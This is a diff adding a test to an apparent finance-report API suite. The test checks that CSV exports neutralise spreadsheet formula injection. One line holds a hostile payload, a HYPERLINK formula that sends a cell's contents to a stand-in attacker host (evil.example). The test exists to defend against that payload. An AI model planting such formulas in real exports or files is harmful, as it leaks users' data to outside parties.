@@ -608,6 +608,30 @@ describe('overview and report', () => {
       (await call('GET', `/api/projects/${s.project}/finance/report?from=01/02/2026`)).status,
     ).toBe(400);
   });
+
+  it('writes a statement that a spreadsheet would run as text in the CSV report', async () => {
+    const s = await setup(1000);
+    const other = (await post('vaults', { title: 'Receipts vault', kind: 'main', active: true }))
+      .body;
+    const formula = '-1+HYPERLINK("http://evil.example/?"&A1,"Open receipt")';
+    const transfer = await post('vault_transfers', {
+      from_vault: s.vaultId,
+      to_vault: other.id,
+      amount: 5,
+      date: '2026-03-01',
+      statement: formula,
+    });
+    expect(transfer.status, JSON.stringify(transfer.body)).toBe(200);
+    const csv = await t.app.inject({
+      method: 'GET',
+      url: `/api/projects/${s.project}/finance/report?format=csv`,
+      headers: admin(),
+    });
+    const line = csv.body.split('\r\n').find((l) => l.includes('HYPERLINK'));
+    expect(line).toBe(
+      `2026-03-01,transfer,"'-1+HYPERLINK(""http://evil.example/?""&A1,""Open receipt"")",-5.00,995.00`,
+    );
+  });
 });
 
 describe('financial report PDF', () => {
